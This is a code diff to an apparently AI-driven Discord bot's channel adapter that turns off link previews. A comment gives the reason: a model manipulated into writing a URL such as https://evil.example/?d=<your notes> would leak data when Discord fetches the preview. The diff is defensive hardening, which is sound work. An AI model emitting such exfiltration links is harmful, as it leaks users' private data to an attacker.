@@ -109,7 +109,9 @@ export class DiscordChannel implements ChannelAdapter {
   private async sendTo(channel: SendableChannels, reply: OutboundReply, replyTo: string | undefined): Promise<void> {
     let first = true;
     for (const content of splitMessage(reply.text, DISCORD_LIMIT)) {
-      await channel.send({ content, ...(first && replyTo ? { reply: { messageReference: replyTo, failIfNotExists: false } } : {}) });
+      // No link previews: Discord's servers would fetch every link in a reply, so an address the model was talked into
+      // writing (https://evil.example/?d=<your notes>) would leak without any tool call. Telegram's are off as well.
+      await channel.send({ content, flags: MessageFlags.SuppressEmbeds, ...(first && replyTo ? { reply: { messageReference: replyTo, failIfNotExists: false } } : {}) });
       first = false;
     }
     const files = (reply.artifacts ?? []).map((artifact) => ({
@@ -200,7 +202,7 @@ export class DiscordChannel implements ChannelAdapter {
       sendEditable: async (text) => {
         if (!channel.isSendable()) throw new AppError('CHANNEL_UNAVAILABLE', `discord: cannot send to channel ${message.channelId}`);
         // No mentions: a status line quotes a tool's words, which must not ping anyone.
-        const sent = await channel.send({ content: text, allowedMentions: { parse: [] } });
+        const sent = await channel.send({ content: text, flags: MessageFlags.SuppressEmbeds, allowedMentions: { parse: [] } });
         return async (next) => {
           await sent.edit({ content: next, allowedMentions: { parse: [] } });
         };
